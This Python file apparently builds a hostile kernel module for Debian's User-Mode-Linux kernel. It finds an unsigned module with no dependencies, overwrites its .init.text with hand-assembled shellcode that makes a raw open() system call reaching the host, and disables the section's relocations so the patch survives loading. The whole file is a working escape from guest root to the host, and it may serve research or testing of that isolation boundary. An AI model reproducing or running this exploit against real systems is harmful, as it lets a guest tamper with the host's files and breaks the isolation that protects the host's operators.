"""A module of the distribution that has become hostile: its first function makes a system call of the host.

Debian has no headers for its UML kernel, so none can be built. But modules are not signed, and in a UML kernel the
instruction `syscall` is the host's: a few bytes in place of a module's own code are all that a guest's root needs.
"""

from __future__ import annotations

import struct
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Final

_HEADER: Final = struct.Struct("<40xQ4x6xHHH")
"""Of ELF-64: the offset of the section headers, the size of one, their count, and that of their names."""
_SECTION: Final = struct.Struct("<IIQQQQIIQQ")
CODE: Final = ".init.text"
ROOM: Final = 160
"""Bytes of code that are replaced."""
_OPEN: Final = bytes.fromhex("488d3d12000000 be41000000 baa4010000 b802000000 0f05 c3")
"""open(PATH, O_WRONLY | O_CREAT, 0644), whose result is the function's; PATH follows."""


@dataclass(frozen=True, slots=True)
class _Section:
    name: str
    header: int
    offset: int
    size: int


def hostile(modules: Path, path: Path) -> bytes:
    """A module among `modules` that makes a file at `path` of the host when it is loaded."""
    text = _OPEN + bytes(path) + b"\0"
    assert len(text) <= ROOM
    for module in sorted(modules.rglob("*.ko")):
        content = bytearray(module.read_bytes())
        sections = {section.name: section for section in _sections(bytes(content))}
        code = sections.get(CODE)
        if b"\0depends=\0" not in content or code is None or code.size < ROOM:
            continue
        content[code.offset : code.offset + ROOM] = text.ljust(ROOM, b"\xc3")
        relocations = sections[f".rela{CODE}"]  # would change our code
        content[relocations.header + 4 : relocations.header + 8] = bytes(4)
        return bytes(content)
    raise AssertionError(f"no module below {modules} that needs no other has room")


def _sections(content: bytes) -> Iterator[_Section]:
    start, size, count, names = _HEADER.unpack_from(content)
    headers = [_SECTION.unpack_from(content, start + number * size) for number in range(count)]
    for number, header in enumerate(headers):
        place = headers[names][4] + header[0]
        name = bytes(content[place : content.index(b"\0", place)]).decode()
        yield _Section(name, start + number * size, header[4], header[5])
